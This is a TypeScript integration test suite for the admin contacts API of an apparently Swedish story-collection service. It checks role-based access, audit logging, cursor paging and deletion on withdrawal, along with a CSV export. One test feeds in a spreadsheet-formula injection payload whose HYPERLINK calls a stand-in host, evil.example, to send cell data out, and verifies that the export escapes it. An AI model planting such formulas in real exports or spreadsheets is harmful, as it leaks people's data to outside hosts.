import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUserRepository } from '../../api/src/users/repository.ts';
import { hashPassword } from '../../api/src/users/service.ts';
import { buildSubmission, newKey } from '../support/builders.ts';
import { uniquePhrase } from '../support/markers.ts';
import { createTestApp, type TestApp } from '../support/testApp.ts';

let t: TestApp;
let today = '2027-03-10';
const PASSWORD = 'contact list passphrase for the tests';
type Who = { cookie: string; csrf: string; id: string };
const people: Record<'admin' | 'facilitator' | 'staff', Who> = {} as never;

async function signIn(email: string) {
  const res = await request(t.app).post('/api/v1/session').send({ email, password: PASSWORD });
  expect(res.status).toBe(201);
  return { cookie: String(res.headers['set-cookie']?.[0]).split(';')[0] ?? '', csrf: String(res.body.csrfToken), id: String(res.body.user.id) };
}
const as = (who: Who) => ({ Cookie: who.cookie, 'X-CSRF-Token': who.csrf });

interface Person {
  name: string;
  email?: string;
  phone?: string;
}

/** A story with contact details; returns its id, receipt code and the (letters-only) story marker. */
async function tell(person: Person, extra: Parameters<typeof buildSubmission>[0] = {}) {
  const marker = uniquePhrase('Berättelse med kontakt');
  const res = await request(t.app)
    .post('/api/v1/submissions')
    .set('Idempotency-Key', newKey())
    .send(
      buildSubmission({
        story: { whatHappened: marker },
        followUp: { ...person, preferredLanguage: 'sv', accessNeeds: 'Behöver tolk' },
        consent: { storyProcessing: true, contactProcessing: true, version: '2026-11' },
        ...extra,
      }),
    );
  expect(res.status).toBe(201);
  return { id: String(res.body.id), receiptCode: String(res.body.receiptCode), marker };
}

beforeAll(async () => {
  t = await createTestApp({ today: () => today });
  const users = createUserRepository(t.connection);
  const hash = await hashPassword(PASSWORD);
  for (const role of ['admin', 'facilitator', 'staff'] as const) {
    await users.create({ email: `${role}@vgregion.se`, displayName: role, roles: [role], passwordHash: hash }, new Date());
    people[role] = await signIn(`${role}@vgregion.se`);
  }
  const campaign = await request(t.app)
    .post('/api/v1/campaigns')
    .set(as(people.facilitator))
    .send({ code: 'site-x-wave-2', name: 'Site X wave 2', site: 'Site X', rolloutWave: 2, phase: 'after', opensOn: '2027-03-01' });
  expect(campaign.status).toBe(201);
});
afterAll(async () => {
  await t.close();
});

const auditEvents = () => t.connection.db!.collection('auditEvents');

describe('the people who offered to take part', () => {
  it('shows admins the decrypted contact details with the story context, and never the story text', async () => {
    const person = { name: 'Kim Andersson', email: 'kim.andersson@exempel.se', phone: '070-123 45 67' };
    const story = await tell(person, { campaign: 'site-x-wave-2', locale: 'en' });
    const res = await request(t.app).get('/api/v1/contacts').set(as(people.admin));
    expect(res.status).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
    const entry = res.body.items.find((item: { storyId: string }) => item.storyId === story.id);
    expect(entry).toEqual({
      storyId: story.id,
      receivedOn: '2027-03-10',
      deleteOn: '2027-09-06',
      locale: 'en',
      channel: 'web',
      campaign: 'site-x-wave-2',
      site: 'Site X',
      readable: true,
      name: 'Kim Andersson',
      email: 'kim.andersson@exempel.se',
      phone: '070-123 45 67',
      preferredLanguage: 'sv',
      accessNeeds: 'Behöver tolk',
    });
    expect(res.body.total).toBeGreaterThanOrEqual(1);
    expect(JSON.stringify(res.body)).not.toContain(story.marker);
  });

  it('refuses facilitators and staff (403) and anonymous callers (401), for the list and the export', async () => {
    for (const path of ['/api/v1/contacts', '/api/v1/contacts.csv']) {
      expect((await request(t.app).get(path)).status, path).toBe(401);
      for (const role of ['facilitator', 'staff'] as const) {
        const res = await request(t.app).get(path).set(as(people[role]));
        expect(res.status, `${role} ${path}`).toBe(403);
        expect(JSON.stringify(res.body)).not.toContain('@exempel.se');
      }
    }
  });

  it('audits every view (story ids and count) and every export (count), with no contact details or story text in the log', async () => {
    const person = { name: 'Lovisa Granqvist', email: 'lovisa.granqvist@exempel.se', phone: '0701 98 76 54' };
    const story = await tell(person);
    const viewsBefore = await auditEvents().countDocuments({ action: 'contact.viewed' });
    const listed = await request(t.app).get('/api/v1/contacts').set(as(people.admin));
    expect(listed.status).toBe(200);
    const views = await auditEvents().find({ action: 'contact.viewed' }).sort({ at: -1, _id: -1 }).toArray();
    expect(views).toHaveLength(viewsBefore + 1);
    expect(views[0]).toMatchObject({ outcome: 'success', actorId: people.admin.id, targetType: 'contacts' });
    expect(views[0]!['detail']['count']).toBe(listed.body.items.length);
    expect(String(views[0]!['detail']['storyIds']).split(',')).toContain(story.id);

    const exported = await request(t.app).get('/api/v1/contacts.csv').set(as(people.admin));
    expect(exported.status).toBe(200);
    const exports = await auditEvents().find({ action: 'contact.exported' }).toArray();
    expect(exports).toHaveLength(1);
    expect(exports[0]).toMatchObject({ outcome: 'success', actorId: people.admin.id, detail: { count: listed.body.total, truncated: false } });

    const everything = JSON.stringify(await auditEvents().find({}).toArray());
    for (const secret of [person.name, person.email, person.phone, 'Granqvist', 'Behöver tolk', story.marker]) expect(everything).not.toContain(secret);
  });

  it('exports CSV as an attachment that a spreadsheet cannot run as formulas, and that parses back', async () => {
    const hostile = { name: '=HYPERLINK("https://evil.example/?d="&A2,"Klicka")', email: 'formel@exempel.se', phone: '+46 70 111 22 33' };
    const story = await tell(hostile);
    const res = await request(t.app).get('/api/v1/contacts.csv').set(as(people.admin)).buffer(true).parse((response, callback) => {
      let text = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => (text += chunk));
      response.on('end', () => callback(null, text));
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toBe('attachment; filename="medskapa-contacts-2027-03-10.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    const rows: Record<string, string>[] = parse(String(res.body), { columns: true, bom: true });
    const row = rows.find((item) => item['storyId'] === story.id);
    expect(Object.keys(row!)).toEqual(['storyId', 'receivedOn', 'deleteOn', 'locale', 'channel', 'campaign', 'site', 'readable', 'name', 'email', 'phone', 'preferredLanguage', 'accessNeeds']);
    expect(row!['name']).toBe(`'${hostile.name}`);
    expect(row!['phone']).toBe(`'${hostile.phone}`);
    expect(row!['email']).toBe('formel@exempel.se');
    expect(row!['readable']).toBe('true');
    expect(String(res.body)).not.toContain(story.marker);
  });

  it('pages newest story first with a cursor, without repeats or gaps', async () => {
    today = '2027-03-11';
    await tell({ name: 'Sida Ett', email: 'sida.ett@exempel.se' });
    today = '2027-03-12';
    await tell({ name: 'Sida Två', email: 'sida.tva@exempel.se' });
    await tell({ name: 'Sida Tre', email: 'sida.tre@exempel.se' });
    const all = (await request(t.app).get('/api/v1/contacts?limit=500').set(as(people.admin))).body;
    expect(all.items.map((item: { receivedOn: string }) => item.receivedOn)).toEqual(
      [...all.items.map((item: { receivedOn: string }) => item.receivedOn)].sort().reverse(),
    );
    const seen: string[] = [];
    let after: string | undefined;
    do {
      const res = await request(t.app)
        .get('/api/v1/contacts')
        .query({ limit: 2, ...(after === undefined ? {} : { after }) })
        .set(as(people.admin));
      expect(res.status).toBe(200);
      expect(res.body.items.length).toBeLessThanOrEqual(2);
      seen.push(...res.body.items.map((item: { storyId: string }) => item.storyId));
      after = res.body.nextCursor;
    } while (after !== undefined);
    expect(seen).toEqual(all.items.map((item: { storyId: string }) => item.storyId));
    expect(new Set(seen).size).toBe(all.total);
  });

  it.each([
    ['a limit of 0', 'limit=0', 'limit', 'query.limit.invalid'],
    ['a broken cursor', 'after=not-a-cursor', 'after', 'query.after.invalid'],
    ['an unknown filter', 'email=x', 'email', 'validation.unknownField'],
  ])('answers %s with 400 and a message key', async (_name, query, field, key) => {
    const res = await request(t.app).get(`/api/v1/contacts?${query}`).set(as(people.admin));
    expect(res.status).toBe(400);
    expect(res.body.error.fields[field]).toBe(key);
  });

  it('a withdrawn story takes its contact details with it: gone from the admin list and the export', async () => {
    const story = await tell({ name: 'Ture Tillbaka', email: 'ture.tillbaka@exempel.se' });
    const before = await request(t.app).get('/api/v1/contacts?limit=500').set(as(people.admin));
    expect(before.body.items.map((item: { storyId: string }) => item.storyId)).toContain(story.id);
    expect((await request(t.app).delete(`/api/v1/receipts/${story.receiptCode}`)).status).toBe(204);
    const after = await request(t.app).get('/api/v1/contacts?limit=500').set(as(people.admin));
    expect(after.body.items.map((item: { storyId: string }) => item.storyId)).not.toContain(story.id);
    expect(after.body.total).toBe(before.body.total - 1);
    const csv = await request(t.app).get('/api/v1/contacts.csv').set(as(people.admin));
    expect(csv.text).not.toContain('ture.tillbaka@exempel.se');
    expect(await t.connection.db!.collection('contacts').countDocuments({ submissionId: story.id })).toBe(0);
  });
});
